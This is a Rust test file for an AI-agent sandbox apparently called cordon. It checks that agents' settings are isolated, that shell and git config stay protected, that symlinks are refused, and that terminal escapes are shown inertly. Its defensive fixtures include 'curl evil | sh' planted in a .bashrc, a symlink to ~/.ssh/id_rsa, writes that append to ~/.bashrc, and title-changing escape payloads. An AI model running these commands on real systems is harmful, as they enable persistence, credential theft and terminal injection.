//! An agent's first run: its own `$HOME` settings land in the private layer (visible for the
//! session, never on the host, listed at exit, `cordon config diff`/`apply` afterwards), its
//! home directory is created on the host and a first login's credential file is kept, while
//! shell, git and workspace configuration and everything the profile does not name stay
//! refused; `$HOME` with a mount below it still works.
use crate::common;

use common::*;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

const HOST_SETTINGS: &str = "{\"host\": \"settings\"}\n";

fn gemini_sandbox(name: &str) -> Sandbox {
    let sb = Sandbox::new(name);
    sb.write_host(&sb.home.join(".gemini/settings.json"), HOST_SETTINGS);
    sb
}

#[test]
fn own_settings_land_in_the_private_layer_and_apply_copies_them_out() {
    let sb = gemini_sandbox("own-config");
    let settings = sb.home.join(".gemini/settings.json");
    let trusted = sb.home.join(".gemini/trustedFolders.json");
    // Written in place and through an atomic replace (as gemini and codex save), then read
    // back inside: the agent sees its own settings for the rest of the session.
    let script = format!(
        "printf '{{\"new\": 1}}\\n' > '{s}' && cat '{s}'; \
         printf '{{\"{ws}\": \"TRUST_FOLDER\"}}\\n' > '{t}.tmp' && mv '{t}.tmp' '{t}' && cat '{t}'",
        s = settings.display(),
        t = trusted.display(),
        ws = sb.ws.display()
    );
    let out = sb.sh_opts(&["--profile", "gemini"], &script);
    assert_eq!(out.code, 0, "{}", out.show());
    assert!(out.stdout.contains("{\"new\": 1}"), "{}", out.show());
    assert!(out.stdout.contains("TRUST_FOLDER"), "{}", out.show());
    // The host is untouched.
    assert_eq!(
        fs::read_to_string(&settings).ok().as_deref(),
        Some(HOST_SETTINGS),
        "{}",
        out.show()
    );
    assert_absent(&trusted, &out);
    // One line at exit names them.
    let lines: Vec<&str> = out
        .stderr
        .lines()
        .filter(|l| l.contains("saved its settings inside the sandbox only"))
        .collect();
    assert_eq!(lines.len(), 1, "{}", out.show());
    assert!(lines[0].contains("~/.gemini/settings.json"), "{}", lines[0]);
    assert!(
        lines[0].contains("cordon config apply gemini"),
        "{}",
        lines[0]
    );

    let diff = sb.cordon(&["config", "diff"]);
    assert_eq!(diff.code, 0, "{}", diff.show());
    assert!(
        diff.stdout.contains("-{\"host\": \"settings\"}"),
        "{}",
        diff.show()
    );
    assert!(diff.stdout.contains("+{\"new\": 1}"), "{}", diff.show());
    assert!(
        diff.stdout.contains("~/.gemini/trustedFolders.json"),
        "{}",
        diff.show()
    );
    // Diffing changes nothing on the host.
    assert_eq!(
        fs::read_to_string(&settings).ok().as_deref(),
        Some(HOST_SETTINGS)
    );

    let apply = sb.cordon(&["config", "apply", "gemini"]);
    assert_eq!(apply.code, 0, "{}", apply.show());
    assert_eq!(
        fs::read_to_string(&settings).ok().as_deref(),
        Some("{\"new\": 1}\n"),
        "{}",
        apply.show()
    );
    assert!(fs::read_to_string(&trusted)
        .unwrap_or_default()
        .contains("TRUST_FOLDER"));
    let again = sb.cordon(&["config", "diff", "gemini"]);
    assert!(again.stdout.contains("nothing saved"), "{}", again.show());

    // The next session starts from what was applied.
    let out = sb.sh_opts(
        &["--profile", "gemini"],
        &format!("cat '{}'", settings.display()),
    );
    assert!(out.stdout.contains("{\"new\": 1}"), "{}", out.show());
    assert!(
        !out.stderr.contains("saved its settings"),
        "nothing changed this time\n{}",
        out.show()
    );
}

#[test]
fn everything_the_profile_does_not_name_stays_refused() {
    let sb = gemini_sandbox("own-config-twin");
    sb.write_host(&sb.home.join(".claude/settings.json"), "{\"claude\": 1}\n");
    sb.write_host(&sb.ws.join("GEMINI.md"), "project memory\n");
    // The first run creates gemini's directories on the host; compare after it.
    let first = sb.run_opts(&["--profile", "gemini"], &["true"]);
    assert_eq!(first.code, 0, "{}", first.show());
    let before = sb.home_snapshot();
    let ws_before = host_snapshot(&sb.ws);
    let targets = [
        sb.home.join(".bashrc"),
        sb.home.join(".profile"),
        sb.home.join(".gitconfig"),
        sb.home.join(".config/git/config"),
        sb.home.join(".claude/settings.json"),
        sb.ws.join(".gemini/settings.json"),
        sb.ws.join("GEMINI.md"),
        sb.ws.join(".git/config"),
    ];
    let mut script = String::new();
    for t in &targets {
        script.push_str(&format!(
            "mkdir -p \"$(dirname '{p}')\" 2>/dev/null; echo evil >> '{p}' 2>/dev/null && echo 'WROTE {p}'; ",
            p = t.display()
        ));
    }
    // The agent's directory itself cannot be moved away or replaced.
    script.push_str(&format!(
        "mv '{g}' '{g}.away' 2>/dev/null && echo 'MOVED gemini dir'; true",
        g = sb.home.join(".gemini").display()
    ));
    let out = sb.sh_opts(&["--profile", "gemini"], &script);
    assert!(!out.stdout.contains("WROTE"), "{}", out.show());
    assert!(!out.stdout.contains("MOVED"), "{}", out.show());
    assert!(!out.stderr.contains("saved its settings"), "{}", out.show());
    assert_unchanged("home", &before, &sb.home_snapshot(), &out);
    assert_unchanged("workspace", &ws_before, &host_snapshot(&sb.ws), &out);
    let diff = sb.cordon(&["config", "diff"]);
    assert!(diff.stdout.contains("nothing saved"), "{}", diff.show());

    // Without the profile, gemini's own settings are protected like any configuration.
    let s = sb.home.join(".gemini/settings.json");
    let out = sb.sh_opts(
        &["--no-auto-profile"],
        &format!("echo evil > '{}' && echo WROTE; true", s.display()),
    );
    assert!(!out.stdout.contains("WROTE"), "{}", out.show());

    // A person's own protect rule is never lifted by a profile.
    sb.write_host(
        &sb.home.join(".config/cordon/policy.toml"),
        "[filesystem]\nprotect = [\"~/.gemini/settings.json\"]\n",
    );
    let out = sb.sh_opts(
        &["--profile", "gemini"],
        &format!("echo evil > '{}' && echo WROTE; true", s.display()),
    );
    assert!(!out.stdout.contains("WROTE"), "{}", out.show());
    assert_eq!(fs::read_to_string(&s).ok().as_deref(), Some(HOST_SETTINGS));
}

#[test]
fn config_apply_copies_only_what_the_profile_names_and_follows_no_symlink() {
    let sb = gemini_sandbox("own-config-apply");
    let store = sb.home.join(".local/state/cordon/config/gemini");
    let bashrc_before = fs::read(sb.home.join(".bashrc")).expect("bashrc");
    // Planted in the store (as if a sandbox had put it there): not gemini's configuration.
    sb.write_host(&store.join(".bashrc"), "curl evil | sh\n");
    // The host file is a symlink to another file: never written through, not replaced.
    let note = sb.home.join("notes/other.txt");
    let note_before = fs::read(&note).expect("note");
    let cmds = sb.home.join(".gemini/commands");
    fs::create_dir_all(cmds.parent().unwrap_or(&sb.home)).expect("mkdir");
    std::os::unix::fs::symlink(&note, sb.home.join(".gemini/GEMINI.md")).expect("symlink");
    sb.write_host(&store.join(".gemini/GEMINI.md"), "new memory\n");
    // Twin: a file the profile names, with a regular file (or none) on the host, is applied.
    sb.write_host(
        &store.join(".gemini/commands/fix.toml"),
        "prompt = \"fix\"\n",
    );
    // A symlink inside the store is not followed either.
    fs::create_dir_all(store.join(".gemini")).expect("mkdir");
    std::os::unix::fs::symlink(sb.home.join(".ssh/id_rsa"), store.join(".gemini/.env"))
        .expect("symlink");
    chown_tree(&sb.root);

    let out = sb.cordon(&["config", "apply", "gemini"]);
    assert_ne!(out.code, 0, "{}", out.show());
    assert!(
        out.stderr
            .contains("~/.bashrc is not gemini's own configuration"),
        "{}",
        out.show()
    );
    assert_eq!(fs::read(sb.home.join(".bashrc")).ok(), Some(bashrc_before));
    assert_eq!(
        fs::read(&note).ok(),
        Some(note_before),
        "written through a symlink"
    );
    let md = sb.home.join(".gemini/GEMINI.md");
    assert!(
        fs::symlink_metadata(&md).is_ok_and(|m| m.file_type().is_symlink()),
        "the symlink is left as it is"
    );
    assert!(
        out.stderr.contains("cannot apply ~/.gemini/GEMINI.md")
            && out.stderr.contains("not a regular file"),
        "{}",
        out.show()
    );
    assert_eq!(
        fs::read_to_string(sb.home.join(".gemini/commands/fix.toml"))
            .ok()
            .as_deref(),
        Some("prompt = \"fix\"\n"),
        "{}",
        out.show()
    );
    // The key behind the store's symlink never reached gemini's .env.
    let env = fs::read_to_string(sb.home.join(".gemini/.env")).unwrap_or_default();
    assert!(!env.contains(SSH_MARKER), "{env}");
}

#[test]
fn agent_home_is_created_and_a_first_login_is_kept() {
    let sb = Sandbox::new("agent-home");
    let codex = sb.home.join(".codex");
    assert!(!codex.exists());
    let auth = codex.join("auth.json");
    let other = codex.join("not-state.txt");
    let out = sb.sh_opts(
        &["--profile", "codex"],
        &format!(
            "ls -d '{c}' && echo '{{\"OPENAI_API_KEY\": \"sk-dummy\"}}' > '{a}' && echo x > '{o}' && echo wrote",
            c = codex.display(),
            a = auth.display(),
            o = other.display()
        ),
    );
    assert!(out.stdout.contains("wrote"), "{}", out.show());
    let meta = fs::metadata(&codex).expect("~/.codex created on the host");
    assert!(meta.is_dir());
    assert_eq!(meta.permissions().mode() & 0o777, 0o700, "{}", out.show());
    assert!(codex.join("sessions").is_dir(), "{}", out.show());
    // The credential file is state: kept. Anything else written there is not.
    assert_eq!(
        fs::read_to_string(&auth).ok().as_deref(),
        Some("{\"OPENAI_API_KEY\": \"sk-dummy\"}\n"),
        "{}",
        out.show()
    );
    assert_eq!(
        fs::metadata(&auth)
            .map(|m| m.permissions().mode() & 0o777)
            .ok(),
        Some(0o600)
    );
    assert_absent(&other, &out);
    // The next run finds it (now bound from the host) and may update it in place.
    let out = sb.sh_opts(
        &["--profile", "codex"],
        &format!("cat '{a}' && echo updated > '{a}'", a = auth.display()),
    );
    assert!(out.stdout.contains("sk-dummy"), "{}", out.show());
    assert_eq!(fs::read_to_string(&auth).ok().as_deref(), Some("updated\n"));

    // A symlink planted where the agent's home would be is never followed.
    let sb = Sandbox::new("agent-home-link");
    std::os::unix::fs::symlink(sb.root.join("elsewhere"), sb.home.join(".gemini")).expect("ln");
    chown_tree(&sb.root);
    let out = sb.run_opts(&["--profile", "gemini"], &["true"]);
    assert_eq!(out.code, 125, "{}", out.show());
    assert!(out.stderr.contains(".gemini"), "{}", out.show());
    assert!(!sb.root.join("elsewhere").exists(), "{}", out.show());
}

/// Unmounts the tmpfs a test mounted under its `$HOME`.
struct Unmount(std::path::PathBuf);

impl Drop for Unmount {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg(&self.0).status();
    }
}

#[test]
fn a_mount_below_home_is_kept_read_only_with_every_protection() {
    let test = "agent_config::a_mount_below_home_is_kept_read_only_with_every_protection";
    if euid() != 0 {
        skip(test, "mounting a tmpfs under $HOME needs root");
        return;
    }
    let sb = Sandbox::new("home-submount");
    let tws = sb.home.join("tws");
    fs::create_dir_all(&tws).expect("mkdir");
    let mounted = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o"])
        .arg(format!("size=1m,uid={},gid={}", sb.user.uid, sb.user.gid))
        .arg("tmpfs")
        .arg(&tws)
        .status();
    if !mounted.is_ok_and(|s| s.success()) {
        skip(test, "cannot mount a tmpfs here");
        return;
    }
    let _unmount = Unmount(tws.clone());
    sb.write_host(&tws.join("f"), "on the tmpfs\n");
    let before = sb.home_snapshot();
    let out = sb.sh(&format!(
        "cat '{t}/f'; echo x > '{t}/g' 2>/dev/null && echo 'WROTE tws'; \
         echo layer > ~/newfile && cat ~/newfile; mkdir -p ~/.cache/x && echo c > ~/.cache/x/y && echo cache-ok; \
         echo evil >> ~/.bashrc 2>/dev/null && echo 'WROTE bashrc'; cat ~/.ssh/id_rsa 2>/dev/null; \
         cat ~/notes/other.txt",
        t = tws.display()
    ));
    assert_eq!(out.code, 0, "{}", out.show());
    assert!(out.stdout.contains("on the tmpfs"), "{}", out.show());
    assert!(!out.stdout.contains("WROTE"), "{}", out.show());
    assert!(out.stdout.contains("layer"), "{}", out.show());
    assert!(out.stdout.contains("cache-ok"), "{}", out.show());
    assert!(out.stdout.contains("ordinary host note"), "{}", out.show());
    assert!(!out.stdout.contains(SSH_MARKER), "{}", out.show());
    assert_unchanged("home", &before, &sb.home_snapshot(), &out);
    assert_absent(&tws.join("g"), &out);

    // A workspace on that mount is writable as usual.
    let ws = tws.join("proj");
    fs::create_dir_all(&ws).expect("mkdir");
    chown_tree(&tws);
    let out = sb.run_with(
        |c| {
            c.current_dir(&ws);
        },
        &[],
        &["sh", "-c", "echo w > kept.txt"],
    );
    assert_eq!(out.code, 0, "{}", out.show());
    assert_eq!(
        fs::read_to_string(ws.join("kept.txt")).ok().as_deref(),
        Some("w\n")
    );
}

#[test]
fn the_sandbox_cannot_read_what_agents_saved_before() {
    let sb = gemini_sandbox("own-config-hidden");
    let settings = sb.home.join(".gemini/settings.json");
    let out = sb.sh_opts(
        &["--profile", "gemini"],
        &format!("echo secret-choice-91 > '{}'", settings.display()),
    );
    assert_eq!(out.code, 0, "{}", out.show());
    let store = sb
        .home
        .join(".local/state/cordon/config/gemini/.gemini/settings.json");
    assert!(Path::new(&store).exists(), "{}", out.show());
    // A later sandbox neither sees the stored file nor can change it.
    let out = sb.sh_opts(
        &["--profile", "gemini"],
        &format!(
            "cat '{s}' 2>/dev/null; echo forged > '{s}' 2>/dev/null; cat '{g}'; true",
            s = store.display(),
            g = settings.display()
        ),
    );
    assert!(!out.stdout.contains("secret-choice-91"), "{}", out.show());
    assert_eq!(
        fs::read_to_string(&store).ok().as_deref(),
        Some("secret-choice-91\n"),
        "{}",
        out.show()
    );
}

/// What the sandbox saved is shown to the person on the host, so it must not act on their
/// terminal: escape sequences in a saved file (and in its name) appear escaped in `config diff`
/// and in the exit line, and a binary file is named with its size instead of dumped.
#[test]
fn config_diff_shows_escapes_and_binary_files_inertly() {
    let sb = gemini_sandbox("own-config-escapes");
    let settings = sb.home.join(".gemini/settings.json");
    let commands = sb.home.join(".gemini/commands");
    let script = format!(
        "printf '\\033]0;PWNED-TITLE\\007{{\"x\":\"\"}}\\n' > '{s}' && \
         mkdir -p '{c}' && printf 'PNG\\000\\033[2J' > '{c}/icon.png' && \
         printf 'hi\\n' > \"{c}/$(printf 'evil\\033]0;T\\007.toml')\"",
        s = settings.display(),
        c = commands.display()
    );
    let out = sb.sh_opts(&["--profile", "gemini"], &script);
    assert_eq!(out.code, 0, "{}", out.show());
    assert!(
        !out.stderr.contains('\u{1b}') && !out.stderr.contains('\u{7}'),
        "the exit line printed a raw escape:\n{:?}",
        out.stderr
    );
    let diff = sb.cordon(&["config", "diff", "gemini"]);
    assert_eq!(diff.code, 0, "{}", diff.show());
    let raw = diff.stdout.clone();
    assert!(
        !raw.contains('\u{1b}') && !raw.contains('\u{7}') && !raw.contains('\0'),
        "config diff printed raw control bytes:\n{raw:?}"
    );
    assert!(raw.contains("\\x1b]0;PWNED-TITLE\\x07"), "{raw}");
    assert!(raw.contains("binary file:"), "{raw}");
    assert!(raw.contains("icon.png"), "{raw}");
    assert!(raw.contains("evil\\x1b]0;T\\x07.toml"), "{raw}");
    // Twin: ordinary text is shown as it is.
    assert!(raw.contains("+hi"), "{raw}");
    assert_eq!(
        fs::read_to_string(&settings).ok().as_deref(),
        Some(HOST_SETTINGS)
    );
}
